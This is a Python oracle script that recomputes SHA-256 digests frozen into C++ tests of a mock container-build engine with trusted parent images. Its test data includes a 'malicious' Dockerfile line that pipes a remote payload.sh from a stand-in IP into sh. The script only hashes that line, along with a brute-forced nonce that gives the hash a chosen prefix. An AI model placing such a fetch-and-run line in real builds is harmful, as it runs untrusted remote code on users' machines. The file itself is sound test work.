#!/usr/bin/env python3
"""Independent recomputation of the values frozen into the C++ tests.

Uses only hashlib so that a bug in the C++ digest or mock-engine code cannot
hide in both places at once.

  oracles.py           print every value
  oracles.py --check   recompute and compare with the frozen constants
"""

import argparse
import hashlib
import sys


def sha(text):
    return hashlib.sha256(text.encode()).hexdigest()


def mock_build(content, from_ref_or_parent_digest, seed):
    """The mock engine: image digest over content, base and seed; one digest per step."""
    lines = content.split("\n")
    if lines and lines[-1] == "":
        lines.pop()
    from_index = next(i for i, l in enumerate(lines) if l.split(None, 1)[:1] and l.split()[0].upper() == "FROM")
    steps = lines[from_index + 1:]
    image = sha(content + from_ref_or_parent_digest + seed)
    return image, [sha(step + str(i) + seed) for i, step in enumerate(steps)]


ROOT_TEXT = "FROM registry.example.org/base:1\nLABEL app=web\n"
PARENT_TIME = "20181001T120002Z"  # trust, register, then build on a stepping clock
MALICIOUS_BODY = "RUN curl -s http://203.0.113.7/payload.sh | sh\nLABEL nonce={}\n"


def malicious_text(nonce):
    parent = PARENT_TIME + "-" + sha(ROOT_TEXT)
    return "FROM trusted:" + parent + "\n" + MALICIOUS_BODY.format(nonce)


def find_nonce(prefix):
    n = 0
    while not sha(malicious_text(n)).startswith(prefix):
        n += 1
    return n


def compute(full):
    v = {}
    v["sha256('')"] = sha("")
    v["sha256('abc')"] = sha("abc")
    v["sha256(448-bit)"] = sha("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq")

    root = "FROM alpine:3.18\nRUN echo hi\nRUN make\n"
    image, steps = mock_build(root, "alpine:3.18", "spock")
    v["mock root image"] = image
    v["mock root step 0"] = steps[0]
    v["mock root step 1"] = steps[1]
    v["mock root image (perturbed)"] = mock_build(root, "alpine:3.18", "perturbed")[0]

    child = "FROM trusted:20181001T120000Z-" + sha("abc") + "\n# note\nRUN x\n"
    image, steps = mock_build(child, sha("abc"), "spock")
    v["mock child image"] = image
    v["mock child step 0"] = steps[0]
    v["mock child step 1"] = steps[1]

    v["query root hash"] = sha(ROOT_TEXT)
    v["malicious hash"] = sha(malicious_text(2720886))
    if full:
        v["malicious nonce"] = str(find_nonce("80b6e"))
    return v


FROZEN = {
    "sha256('')": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "sha256('abc')": "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
    "sha256(448-bit)": "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1",
    "mock root image": "6f58921e145288781bcb70e0bdc489266ad17fce415a1a908236bd3f28a24ae0",
    "mock root step 0": "0507a8745f9b353777fbd750e27e86eb8ee64516271b14f3e4ca9f648d135400",
    "mock root step 1": "acd7882f410eca425008e57bd32d07a46ba0bfc5f72c276192b25bff47c0eb95",
    "mock root image (perturbed)": "be05ac79ef0aa5d08d0ea5fa6f05a10f7286a7812b95d882d9d10148d8f4955a",
    "mock child image": "562d533a24f180b37bf4d878551d941ef54c2ffbdcfc6a3b8c2407d1841d7b6d",
    "mock child step 0": "6c5fc95c40a87e1938b57e2d73ff8b0110c87cc0ed03098e5ad22caf17964e74",
    "mock child step 1": "4f98b63b18b8af667cdeff4344afa23f82a15f6b91d512adad4e8dfc39b2d48d",
    "query root hash": "5638a0cf33d3555adcf1adda03abb064ab4bed27ccfeea12afc14e7b7c3bf1a6",
    "malicious hash": "80b6ead6dcb4d11283910bbf88546822cefcaf643c7012bb372ce047748ded84",
    "malicious nonce": "2720886",
}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--check", action="store_true", help="compare with the frozen constants")
    parser.add_argument("--quick", action="store_true", help="skip the nonce search")
    args = parser.parse_args()

    values = compute(full=not args.quick)
    if not args.check:
        for k, val in values.items():
            print(f"{k}: {val}")
        return 0
    bad = 0
    for k, val in values.items():
        ok = FROZEN[k] == val
        bad += not ok
        print(f"{'ok  ' if ok else 'FAIL'} {k}: {val}" + ("" if ok else f" (frozen {FROZEN[k]})"))
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
